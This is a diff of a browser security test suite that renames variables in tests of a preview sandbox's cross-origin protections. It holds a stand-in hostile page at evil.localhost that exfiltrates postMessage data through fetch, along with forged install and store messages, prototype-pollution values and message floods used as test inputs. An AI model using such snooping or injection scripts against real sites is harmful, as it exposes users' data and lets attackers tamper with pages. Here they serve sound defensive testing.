@@ -21,10 +21,10 @@ function saveProject(
 
 /** A page of another site, served at evil.localhost. It requests /got when it receives a message. */
 const evilPage = `<!doctype html><title>evil</title><script>
-  const tell = ({ data, source }) => source === self || fetch('/got?' + encodeURIComponent(JSON.stringify(data)));
-  addEventListener('message', tell);
+  const report = ({ data, source }) => source === self || fetch('/got?' + encodeURIComponent(JSON.stringify(data)));
+  addEventListener('message', report);
   const { port1, port2 } = new MessageChannel();
-  port1.onmessage = tell;
+  port1.onmessage = report;
   parent.postMessage({ vitrine: 'hello', protocol: 1, shown: { kind: 'boot' }, path: '' }, '*', [port2]);
 </script>`;
 
@@ -263,20 +263,20 @@ describe('what other sites can’t do with a preview', () => {
   it('SB-11 embed it and act as its host', async () => {
     at.rig.tamper = answerEvil({ withoutFrameSource: false });
     const boot = `http://draft--one.vitrine.localhost:${at.rig.port}/__vitrine/boot`;
-    const stranger = await at.context.newPage();
+    const otherPage = await at.context.newPage();
     const got = () => evilRequests().filter(({ url }) => url.includes('/got')).length;
-    await stranger.goto(`${evil()}/`);
-    await stranger.evaluate(
+    await otherPage.goto(`${evil()}/`);
+    await otherPage.evaluate(
       `{ const frame = document.createElement('iframe'); frame.src = '${boot}'; document.body.append(frame) }`,
     );
-    const framed = () => Promise.resolve(stranger.frames().at(-1)?.url() ?? '');
+    const framed = () => Promise.resolve(otherPage.frames().at(-1)?.url() ?? '');
     await poll(framed, (url) => url.startsWith('chrome-error:'), 'the refusal', 5_000);
 
     const opened = at.context.waitForEvent('page');
-    await stranger.evaluate(`{ window.preview = window.open('${boot}') }`);
+    await otherPage.evaluate(`{ window.preview = window.open('${boot}') }`);
     const popup = await opened;
     await popup.waitForLoadState();
-    await stranger.evaluate(`{
+    await otherPage.evaluate(`{
       const file = { path: 'index.html', text: 'evil', mediaType: 'text/html', code: null, module: null };
       const store = { type: 'store', run: '${'a'.repeat(32)}', base: null, version: 0, files: [file], removed: [] };
       for (const data of [{ type: 'install' }, { type: 'relay', message: store }, store])
@@ -364,10 +364,10 @@ describe('messages', () => {
 
   it('SB-09 from other windows have no effect, whatever their number and content', async () => {
     at.rig.tamper = answerEvil({ withoutFrameSource: false });
-    const stranger = await at.context.newPage();
-    await stranger.goto(`${evil()}/`);
+    const otherPage = await at.context.newPage();
+    await otherPage.goto(`${evil()}/`);
     const opened = at.context.waitForEvent('page');
-    await stranger.evaluate(`{ window.app = window.open('${at.rig.appOrigin}/') }`);
+    await otherPage.evaluate(`{ window.app = window.open('${at.rig.appOrigin}/') }`);
     const page = await opened;
     const errors: unknown[] = [];
     page.on('pageerror', (error) => errors.push(error));
@@ -377,7 +377,7 @@ describe('messages', () => {
     await workspace.reach('running');
     const before = (await workspace.seen()).states.length;
     await page.evaluate(`{ rig.heard = 0; addEventListener('message', () => { rig.heard += 1 }) }`);
-    await stranger.evaluate(`{
+    await otherPage.evaluate(`{
       const values = [null, 1, 'x', {}, [], ${forged}, { vitrine: 'hello' }, { __proto__: { vitrine: 'hello' } }, { vitrine: 'hello', protocol: 1, shown: null }, { type: 'painted' }, { type: 'leaving' }, { type: 'refused' }];
       for (let i = 0; i < 10000; i += 1) app.postMessage(values[i % values.length], '*', [new MessageChannel().port1]);
       app.postMessage({ vitrine: 'hello', path: 'x'.repeat(1e7) }, '*');
